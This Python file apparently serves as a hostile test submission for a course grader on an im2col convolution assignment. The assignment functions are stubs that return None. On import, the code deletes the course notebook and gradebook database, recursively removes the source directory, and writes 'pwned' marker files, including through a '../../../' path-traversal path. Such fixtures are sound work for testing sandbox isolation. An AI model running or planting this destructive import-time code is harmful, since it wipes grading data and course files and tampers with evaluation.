import os
import pathlib
import shutil

for _target in ("__SENTINEL__", "__COURSE__/source/01_im2col/im2col.ipynb", "__COURSE__/gradebook.db"):
    try:
        os.remove(_target)
    except Exception:
        pass
for _target in ("__COURSE__/hacked.txt", "/tmp/cnn-hostile-hacked.txt", "~/cnn-hostile-hacked.txt",
                "../../../cnn-hostile-hacked.txt"):
    try:
        pathlib.Path(os.path.expanduser(_target)).write_text("pwned")
    except Exception:
        pass
try:
    shutil.rmtree("__COURSE__/source")
except Exception:
    pass


def conv_output_size(size, k, stride=1, pad=0):
    return None


def im2col(x, kh, kw, stride=1, pad=0):
    return None


def col2im(cols, x_shape, kh, kw, stride=1, pad=0):
    return None
